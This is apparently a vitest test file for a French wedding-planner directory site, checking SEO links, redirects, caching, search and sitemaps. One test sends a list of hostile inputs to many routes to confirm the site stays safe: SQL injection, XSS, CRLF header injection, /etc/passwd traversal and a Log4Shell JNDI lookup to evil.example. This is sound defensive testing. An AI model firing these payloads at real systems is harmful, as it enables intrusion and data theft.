import { setTimeout as pause } from 'node:timers/promises'
import { countries } from '@bouquet/domain/countries'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createProvider } from '../../database/testing/factories.ts'
import { startTestServer, type TestServer } from '../../testing/test-server.ts'
import { storeFirstLegalTexts } from '../legal/store-first-legal-texts.ts'
import { createPlaces } from './testing/gazetteer-fixtures.ts'

let server: TestServer
let provider: { id: string; slug: string }
beforeAll(async () => {
  server = await startTestServer({ HOME_PAGE: 'directory' })
  await createPlaces(server.db)
  await storeFirstLegalTexts(server.db, new Date())
  provider = await createProvider(server.db, { company_name: 'Atelier Pivoine' })
  await createProvider(server.db, { company_name: 'Maison Alba' })
  await createProvider(server.db, { company_name: 'Blanc Sapin' })
})
afterAll(() => server.close())

const read = (url: string, headers: Record<string, string> = {}) =>
  server.app.inject({ url, headers: { host: 'fr.localhost', ...headers } })
const originOf = (country: (typeof countries)[number]) => server.services.config.origins[country]
const dataOf = (html: string): Record<string, unknown>[] =>
  [...html.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/g)].map(([, text]) => JSON.parse(text ?? ''))

test('the front pages of all hosts name one another', async () => {
  const named = await Promise.all(
    countries.map(async (country) => {
      const { body } = await read('/wedding-planners', { host: new URL(originOf(country)).host })
      expect(body).toContain(`<link rel="canonical" href="${originOf(country)}/wedding-planners"/>`)
      return [...body.matchAll(/<link rel="alternate" hrefLang="([^"]+)" href="([^"]+)"/g)].map(([, , href]) => href)
    }),
  )
  for (const alternates of named)
    expect(alternates).toEqual(countries.map((country) => `${originOf(country)}/wedding-planners`))
})

test('a list tells search engines where it is and whom it lists, in the types of schema.org', async () => {
  const { body } = await read('/wedding-planners/haute-savoie/annecy')
  const [crumbs, list] = dataOf(body)
  expect(crumbs).toMatchObject({
    '@type': 'BreadcrumbList',
    itemListElement: [
      { '@type': 'ListItem', position: 1, item: `${originOf('FR')}/wedding-planners` },
      {
        '@type': 'ListItem',
        position: 2,
        item: `${originOf('FR')}/wedding-planners/haute-savoie`,
        name: 'Haute-Savoie',
      },
      {
        '@type': 'ListItem',
        position: 3,
        item: `${originOf('FR')}/wedding-planners/haute-savoie/annecy`,
        name: 'Annecy',
      },
    ],
  })
  expect(list).toMatchObject({ '@context': 'https://schema.org', '@type': 'ItemList', numberOfItems: 3 })
  const items = list?.itemListElement as { position: number; url: string }[]
  expect(items.map(({ position }) => position)).toEqual([1, 2, 3])
  expect(items.map(({ url }) => url)).toContain(`${originOf('FR')}/wedding-planner/${provider.slug}`)
})

test('an unknown place answers 404 with what is spelled like it', async () => {
  const department = await read('/wedding-planners/haute-savoi')
  expect(department.statusCode).toBe(404)
  expect(department.body).toContain('href="/wedding-planners/haute-savoie"')
  const city = await read('/wedding-planners/haute-savoie/anecy')
  expect(city.statusCode).toBe(404)
  expect(city.body).toContain('href="/wedding-planners/haute-savoie/annecy"')
})

test.each([
  ['/annuaire', '/wedding-planners'],
  ['/annuaire/haute-savoie/annecy/2', '/wedding-planners/haute-savoie/annecy/2'],
  ['/annuaire/wedding-venues/haute-savoie', '/wedding-venues/haute-savoie'],
  ['/wedding-planners/', '/wedding-planners'],
  ['/wedding-planners/haute-savoie/?service=FULL_PLANNING', '/wedding-planners/haute-savoie?service=FULL_PLANNING'],
])('%s has moved to %s for good', async (url, to) => {
  const { statusCode, headers } = await read(url)
  expect({ statusCode, to: headers.location }).toEqual({ statusCode: 301, to })
})

test('a host that is none of ours is told so', async () => {
  for (const url of [
    '/wedding-planners',
    '/robots.txt',
    '/sitemap.xml',
    '/search?q=annecy',
    '/api/directory/suggestions?q=annecy',
  ])
    expect((await read(url, { host: 'elsewhere.example' })).statusCode, url).toBe(421)
})

// Of the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings, MIT) and OWASP's testing guide.
const naughty = [
  `1;DROP TABLE users`,
  `1' OR 1=1 -- 1`,
  `' OR '1'='1`,
  `'; EXEC sp_MSForEachTable 'DROP TABLE ?'; --`,
  `%`,
  `_`,
  `<script>alert(0)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `\u0000`,
  `\r\nSet-Cookie: taken=1`,
  `%0d%0aLocation:%20https://evil.example`,
  `../../../../etc/passwd`,
  `$\{jndi:ldap://evil.example/a}`,
  `{{7*7}}`,
  `田中さんにあげて下さい`,
  `𝐓𝐡𝐞 ̡͓̞ͅI̗̘̦͝n͇͇͙v̮̫ok̲̫̙͈i̖͙̭̹̠̞n̡̻̮̣̺g`,
  `-9223372036854775809`,
  `1e309`,
  'a'.repeat(3000),
]

test.each(naughty)('%j in a path, a filter or a search does no harm', async (text) => {
  const sent = encodeURIComponent(text)
  const urls = [
    `/wedding-planners/${sent}`,
    `/wedding-planners/haute-savoie/${sent}`,
    `/wedding-planners/haute-savoie/annecy/${sent}`,
    ...['service', 'language', 'price', 'rating', 'km', 'sort', 'page'].map(
      (name) => `/wedding-planners/haute-savoie/annecy?${name}=${sent}`,
    ),
    `/wedding-venues/haute-savoie?type=${sent}&feature=${sent}&feature=${sent}`,
    `/search?q=${sent}&kind=${sent}`,
    `/api/directory/suggestions?q=${sent}`,
    `/annuaire/${sent}`,
    `/social/wedding-planners/${sent}.png`,
    `/sitemaps/${sent}.xml`,
  ]
  for (const url of urls) {
    const { statusCode, headers, body } = await read(url)
    expect(statusCode, url).toBeLessThan(500)
    expect(headers['set-cookie']).toBeUndefined()
    expect(body).not.toMatch(/<script>alert|<img src=x/)
    if (headers.location) expect(String(headers.location)).toMatch(/^\/[\w-]/)
  }
})

test('a page that has not changed is not sent again', async () => {
  const first = await read('/wedding-planners/haute-savoie')
  expect(first.headers['cache-control']).toBe('public, max-age=0, s-maxage=60, stale-while-revalidate=600')
  const again = await read('/wedding-planners/haute-savoie', { 'if-none-match': String(first.headers.etag) })
  expect({ status: again.statusCode, body: again.body }).toEqual({ status: 304, body: '' })
})

test('a page in a chosen language is shared with nobody, its canonical unchanged', async () => {
  const { headers, body } = await read('/wedding-planners/haute-savoie', { cookie: 'locale=de' })
  expect(headers['cache-control']).toBe('private, max-age=0')
  expect(headers['content-language']).toBe('de')
  expect(body).toContain(`<link rel="canonical" href="${originOf('FR')}/wedding-planners/haute-savoie"/>`)
})

test('a hidden price, Premium and a review show on the kept page within a second', async () => {
  const page = async () => (await read('/wedding-planners/haute-savoie')).body
  await page()
  await pause(200)
  expect(await page()).toContain('1\u00a0200\u00a0€')
  await server.db.updateTable('provider_services').set({ is_budget_visible: false }).execute()
  await server.db.updateTable('providers').set({ premium_status: 'active' }).where('id', '=', provider.id).execute()
  await server.db
    .updateTable('providers')
    .set({ review_count: 1, review_average: 4.5 })
    .where('id', '=', provider.id)
    .execute()
  await expect.poll(page, { timeout: 1000 }).not.toContain('1\u00a0200\u00a0€')
  await expect.poll(page, { timeout: 1000 }).toContain('id="premium"')
  await expect.poll(page, { timeout: 1000 }).toContain('4,5 sur 5')
})

test('a search leads to the place that it names, narrowed as chosen, else it says what comes close', async () => {
  const named = await read('/search?q=ANNECY&kind=planner&service=FULL_PLANNING')
  expect([named.statusCode, named.headers.location]).toEqual([
    303,
    '/wedding-planners/haute-savoie/annecy?service=FULL_PLANNING',
  ])
  const misspelt = await read('/search?q=pivione')
  expect([misspelt.statusCode, misspelt.headers.location]).toEqual([303, `/wedding-planner/${provider.slug}`])
  const several = await read('/search?q=ann')
  expect(several.statusCode).toBe(200)
  expect(several.body).toContain('href="/wedding-planners/haute-savoie/annemasse"')
  expect((await read('/search?q=%20')).headers.location).toBe('/wedding-planners')
})

test('suggestions know accents and typing errors', async () => {
  const suggest = async (q: string) =>
    (await read(`/api/directory/suggestions?q=${encodeURIComponent(q)}`))
      .json<{ name: string }[]>()
      .map(({ name }) => name)
  expect(await suggest('hauté sav')).toEqual(['Haute-Savoie'])
  expect(await suggest('anecy')).toEqual(['Annecy'])
  expect(await suggest('MAISON al')).toEqual(['Maison Alba'])
  expect(await suggest('pivione')).toEqual(['Atelier Pivoine'])
  expect(await suggest('atleier pivoin')).toEqual(['Atelier Pivoine'])
  expect(await suggest('xyzzyx')).toEqual([])
})

test('the sitemap leads to pages that are there, and robots to the sitemap', async () => {
  const robots = await read('/robots.txt')
  expect(robots.body).toContain(`Sitemap: ${originOf('FR')}/sitemap.xml`)
  const locations = async (url: string) =>
    [...(await read(url)).body.matchAll(/<loc>([^<]+)<\/loc>/g)].map(([, address]) => new URL(address ?? '').pathname)
  const pages = (await Promise.all((await locations('/sitemap.xml')).map(locations))).flat()
  expect(pages).toContain('/wedding-planners/haute-savoie/annecy')
  expect(pages).toContain(`/wedding-planner/${provider.slug}`)
  for (const page of pages) expect((await read(page)).statusCode, page).toBe(200)
})

test('a list has a picture of its own for those who are sent it', async () => {
  const { body } = await read('/wedding-planners/haute-savoie')
  const address = /property="og:image" content="([^"]+)"/.exec(body)?.[1] ?? ''
  const picture = await read(new URL(address).pathname)
  expect([picture.statusCode, picture.headers['content-type']]).toEqual([200, 'image/png'])
  expect((await read('/social/wedding-planners/nowhere.png')).statusCode).toBe(404)
})

test('an operator may put the front page at the door', async () => {
  const { statusCode, body } = await read('/')
  expect(statusCode).toBe(200)
  expect(body).toContain('Quelqu’un qui veille sur')
  expect(body).toContain(`<link rel="canonical" href="${originOf('FR')}/wedding-planners"/>`)
})
